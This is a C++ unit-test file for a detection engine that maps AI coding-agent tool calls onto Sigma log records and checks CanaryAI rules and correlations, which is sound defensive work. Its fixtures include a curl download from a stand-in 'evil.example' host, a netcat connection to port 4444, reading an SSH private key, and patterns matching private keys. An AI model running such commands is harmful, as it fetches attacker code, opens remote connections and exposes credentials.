// Events as fields: JSON laid flat, events of Weir in Sigma's words, CanaryAI's rules over them,
// correlations' memory.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "sigma/canary.h"
#include "sigma/correlation.h"
#include "sigma/engine.h"
#include "sigma/event_fields.h"
#include "sigma/write.h"

namespace weir::sigma {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;

TEST(FlatEvent, NamesMembersWithDotsAndListsByTheirName) {
  const Json event = *parse_json(
      R"({"a":"x","b":{"c":1,"d":[true,{"e":null},2.5]},"f":[],"g":18446744073709551615,"long.name":{"k":"v"}})");
  FlatEvent flat;
  for (int again = 0; again < 2; ++again) {
    flat.assign(event);
    std::vector<std::string> lines;
    for (const Field& field : flat.fields())
      lines.push_back(std::string(field.name) + "=" + std::string(field.text));
    EXPECT_THAT(lines, ElementsAre("a=x", R"(b={"c":1,"d":[true,{"e":null},2.5]})", "b.c=1", "b.d=true",
                                   R"(b.d={"e":null})", "b.d.e=", "b.d=2.5", "g=18446744073709551615",
                                   R"(long.name={"k":"v"})", "long.name.k=v"));
  }
  EXPECT_EQ(find_field(flat.fields(), "b.d.e")->kind, Field::Kind::null);
  EXPECT_EQ(find_field(flat.fields(), "b")->kind, Field::Kind::object);
  EXPECT_EQ(find_field(flat.fields(), "zz"), nullptr);
}

TEST(FlatEvent, DepthAndNumberAreBounded) {
  Json deep = 1;
  for (int i = 0; i < 100; ++i)
    deep = Json::object({{"k", std::move(deep)}});
  FlatEvent flat;
  flat.assign(Json::object({{"top", deep}}));
  EXPECT_LT(flat.fields().size(), 40U);
  Json many = Json::object();
  for (int i = 0; i < 12'000; ++i)
    many.as_object().emplace_back("f" + std::to_string(i), i);
  flat.assign(many);
  EXPECT_EQ(flat.fields().size(), 10'000U);
}

const Mapped* of_category(const std::vector<Mapped>& records, std::string_view category) {
  for (const Mapped& one : records)
    if (one.logsource.category == category) return &one;
  return nullptr;
}

event::Event tool_call(const std::string& tool, Json input) {
  event::Event event;
  event.kind = event::kind::kToolCall;
  event.agent.name = "claude-code";
  event.user = "dev";
  event.session = "claude-code:1";
  event.data = Json::object({{"tool", tool}});
  event.body = Json::object({{"input", std::move(input)}, {"cwd", "/work"}});
  return event;
}

TEST(EventFields, AToolCallIsARecordOfItsOwnAndOneForEachAction) {
  const std::string command = "cd /tmp && curl -o x https://evil.example:8443/a/b.sh?q=1";
  const auto event = tool_call("Bash", Json::object({{"command", command}}));
  const std::vector<event::Action> actions = {
      {"shell.exec",
       "Program",
       "curl",
       event::Certainty::certain,
       {11, static_cast<std::uint32_t>(command.size())},
       Json::object()},
      {"net.connect",
       "Url",
       "https://evil.example:8443/a/b.sh?q=1",
       event::Certainty::possible,
       {},
       Json::object({{"url", "https://evil.example:8443/a/b.sh?q=1"}})},
      {"file.write", "Path", "/tmp/x", event::Certainty::certain, {}, Json::object()},
      {"db.write", "Database", "d", event::Certainty::certain, {}, Json::object()}};
  const auto records = records_of(event, actions, "linux");
  ASSERT_EQ(records.size(), 7U);
  const Mapped* call = of_category(records, "tool_call");
  EXPECT_EQ(call->logsource.product, "weir");
  EXPECT_EQ(call->fields["tool"].text_or(""), "Bash");
  EXPECT_EQ(call->fields["command"].text_or(""), command);
  EXPECT_EQ(call->fields["input"]["command"].text_or(""), command);
  EXPECT_EQ(compact(call->fields["verbs"]), R"(["shell.exec","net.connect","file.write","db.write"])");
  EXPECT_EQ(call->action, SIZE_MAX);
  const Mapped* process = of_category(records, "process_creation");
  EXPECT_EQ(process->logsource.product, "linux");
  EXPECT_EQ(process->fields["Image"].text_or(""), "/usr/bin/curl");
  EXPECT_EQ(process->fields["CommandLine"].text_or(""), "curl -o x https://evil.example:8443/a/b.sh?q=1");
  EXPECT_EQ(process->fields["ParentCommandLine"].text_or(""), command);
  EXPECT_EQ(process->fields["User"].text_or(""), "dev");
  EXPECT_EQ(process->action, 0U);
  const Mapped* connection = of_category(records, "network_connection");
  EXPECT_EQ(connection->fields["DestinationHostname"].text_or(""), "evil.example");
  EXPECT_EQ(connection->fields["DestinationPort"].text_or(""), "8443");
  EXPECT_EQ(connection->fields["certainty"].text_or(""), "possible");
  EXPECT_EQ(of_category(records, "dns_query")->fields["QueryName"].text_or(""), "evil.example");
  const Mapped* proxy = of_category(records, "proxy");
  EXPECT_EQ(proxy->fields["cs-host"].text_or(""), "evil.example");
  EXPECT_EQ(proxy->fields["c-uri-stem"].text_or(""), "/a/b.sh");
  EXPECT_EQ(proxy->fields["c-uri-query"].text_or(""), "q=1");
  EXPECT_EQ(proxy->fields["c-uri-extension"].text_or(""), "sh");
  EXPECT_NE(of_category(records, "webserver"), nullptr);
  EXPECT_EQ(of_category(records, "file_event")->fields["TargetFilename"].text_or(""), "/tmp/x");
}

TEST(EventFields, AnAddressIsNoName) {
  const auto event = tool_call("Bash", Json::object({{"command", "nc 203.0.113.7 4444"}}));
  const std::vector<event::Action> actions = {{"net.connect",
                                               "Host",
                                               "203.0.113.7:4444",
                                               event::Certainty::certain,
                                               {},
                                               Json::object({{"host", "203.0.113.7"}, {"port", "4444"}})}};
  const auto records = records_of(event, actions, "linux");
  const Mapped* connection = of_category(records, "network_connection");
  EXPECT_EQ(connection->fields["DestinationIp"].text_or(""), "203.0.113.7");
  EXPECT_EQ(of_category(records, "dns_query"), nullptr);
}

TEST(EventFields, OtherEventsHaveTheirCategories) {
  event::Event prompt;
  prompt.kind = event::kind::kPrompt;
  prompt.body = Json::object({{"text", "hello"}});
  EXPECT_EQ(records_of(prompt, {}, "linux").at(0).logsource.category, "prompt");
  event::Event result;
  result.kind = event::kind::kToolResult;
  result.data = Json::object({{"tool", "Bash"}, {"failed", true}});
  result.body = Json::object({{"output", Json::object({{"stdout", "x"}})}});
  const auto results = records_of(result, {}, "linux");
  EXPECT_EQ(results.at(0).logsource.category, "tool_result");
  EXPECT_EQ(results.at(0).fields["output"].text_or(""), R"({"stdout":"x"})");
  EXPECT_TRUE(results.at(0).fields["failed"].bool_or(false));
  const auto call = tool_call("mcp__db__query", Json::object({{"sql", "select 1"}}));
  const auto action = [](const char* verb, const char* type, const char* resource) {
    return event::Action{verb, type, resource, event::Certainty::certain, {}, Json::object()};
  };
  const std::vector<event::Action> actions = {action("mcp.call", "Tool", "db/query"),
                                              action("memory.write", "Memory", "/m"),
                                              action("skill.load", "Tool", "pdf")};
  const auto records = records_of(call, actions, "linux");
  EXPECT_EQ(of_category(records, "mcp")->fields["server"].text_or(""), "db");
  EXPECT_EQ(of_category(records, "mcp")->fields["tool"].text_or(""), "query");
  EXPECT_EQ(of_category(records, "mcp")->fields["sql"].text_or(""), "select 1");
  EXPECT_EQ(of_category(records, "memory")->fields["path"].text_or(""), "/m");
  EXPECT_EQ(of_category(records, "skill")->fields["name"].text_or(""), "pdf");
}

// ---- CanaryAI ----

constexpr std::string_view kCanary = R"yaml(
- id: T-001
  name: Reads keys
  severity: HIGH
  description: about keys
  tools: [Read, Bash]
  match:
    - field: file_path
      patterns: ["\\.pem($|\\.)"]
    - field: command
      patterns: ["\\.pem\\b", "id_rsa"]
  message: "a key"
  tags: [keys]
- id: T-002
  name: Any MCP
  severity: LOW
  tool_pattern: "^mcp__"
  match: []
  message: m
- id: T-003
  name: Output
  severity: CRITICAL
  match: [{field: any, patterns: ["BEGIN .{0,20}PRIVATE"]}]
  message: m
- id: T-004
  name: Look-ahead
  severity: LOW
  match: [{field: command, patterns: ["a(?!b)"]}]
  message: m
)yaml";

std::vector<std::string> canary_matches(const RuleSet& set, const event::Event& event) {
  const Engine engine = *Engine::compile(set.rules);
  Workspace workspace;
  FlatEvent flat;
  std::vector<std::string> out;
  const auto records = records_of(event, {}, "linux");
  for (const Mapped& record : records) {
    flat.assign(record.fields);
    const auto matched = engine.match(record.logsource, flat.fields(), workspace);
    if (!matched) continue;
    for (const std::uint32_t rule : *matched)
      out.push_back(set.rules[rule].meta.id);
  }
  return out;
}

TEST(Canary, RulesRunUnchangedAndAsSigma) {
  RuleSet set;
  read_rules(set, kCanary, "canary.yaml", {});
  link(set);
  ASSERT_EQ(set.rules.size(), 3U);
  ASSERT_EQ(set.errors(), 1U);
  EXPECT_EQ(set.problems[0].rule, "T-004");
  EXPECT_THAT(set.problems[0].error.message(), HasSubstr("canary.yaml:"));
  EXPECT_EQ(set.documents, 4U);
  RuleSet written;
  for (const Rule& rule : set.rules)
    read_rules(written, to_yaml(rule), "written.yml", {});
  link(written);
  ASSERT_EQ(written.errors(), 0U);
  for (const RuleSet* rules : {&set, &written}) {
    const auto match = [&](const char* tool, Json input) {
      return canary_matches(*rules, tool_call(tool, std::move(input)));
    };
    EXPECT_THAT(match("Bash", Json::object({{"command", "cat ~/.ssh/ID_RSA"}})), ElementsAre("T-001"));
    EXPECT_THAT(match("Read", Json::object({{"file_path", "/a/key.PEM"}})), ElementsAre("T-001"));
    EXPECT_THAT(match("Write", Json::object({{"file_path", "/a/key.pem"}})), ElementsAre());
    EXPECT_THAT(match("Bash", Json::object({{"command", "ls"}})), ElementsAre());
    EXPECT_THAT(match("mcp__x__y", Json::object()), ElementsAre("T-002"));
    event::Event result;
    result.kind = event::kind::kToolResult;
    result.data = Json::object({{"tool", "Bash"}});
    result.body = Json::object({{"output", "-----begin RSA private key-----"}});
    EXPECT_THAT(canary_matches(*rules, result), ElementsAre("T-003"));
  }
  EXPECT_EQ(set.rules[0].meta.level, Level::high);
}

// ---- Memory of correlations ----

RuleSet counting(const std::string& correlation) {
  RuleSet set;
  read_rules(
      set,
      "title: r\nname: r\nlogsource: {product: p}\ndetection: {s: {A: 1}, condition: s}\n---\ntitle: c\n"
      "name: c\ncorrelation: {" +
          correlation + "}\n",
      "f.yml", {});
  link(set);
  EXPECT_EQ(set.errors(), 0U);
  return set;
}

TEST(Correlator, GroupsAreBoundedAndEvictionIsAnnounced) {
  const RuleSet set =
      counting("type: event_count, rules: [r], group-by: [U], timespan: 1h, condition: {gte: 2}");
  Correlator correlator(set);
  const auto see = [&](std::size_t user) {
    const std::string name = std::to_string(user);
    const Field field{.name = "U", .text = name};
    return correlator.observe(0, {&field, 1}, {0}).size();
  };
  for (std::size_t user = 0; user < limits::kSigmaGroupsMax + 10; ++user)
    EXPECT_EQ(see(user), 0U);
  EXPECT_EQ(correlator.groups(), limits::kSigmaGroupsMax);
  EXPECT_EQ(correlator.evictions().groups, 10U);
  EXPECT_EQ(see(3), 0U);                            // forgotten: counted anew
  EXPECT_EQ(see(limits::kSigmaGroupsMax + 9), 1U);  // still known
}

TEST(Correlator, EntriesOfOneGroupAreBounded) {
  const RuleSet set = counting("type: event_count, rules: [r], timespan: 1h, condition: {gte: 65535}");
  Correlator correlator(set);
  std::size_t fired = 0;
  for (std::size_t i = 0; i < kWindowEntriesMax + 5; ++i)
    fired += correlator.observe(0, {}, {0}).size();
  EXPECT_EQ(fired, 7U);
  EXPECT_EQ(correlator.evictions().entries, 5U);
}

TEST(Correlator, TimeNeverRunsBackwards) {
  const RuleSet set = counting("type: event_count, rules: [r], timespan: 1s, condition: {gte: 2}");
  Correlator correlator(set);
  EXPECT_EQ(correlator.observe(10'000'000'000, {}, {0}).size(), 0U);
  EXPECT_EQ(correlator.observe(1, {}, {0}).size(), 1U);
  EXPECT_EQ(correlator.observe(11'000'000'001, {}, {0}).size(), 0U);
}

}  // namespace
}  // namespace weir::sigma
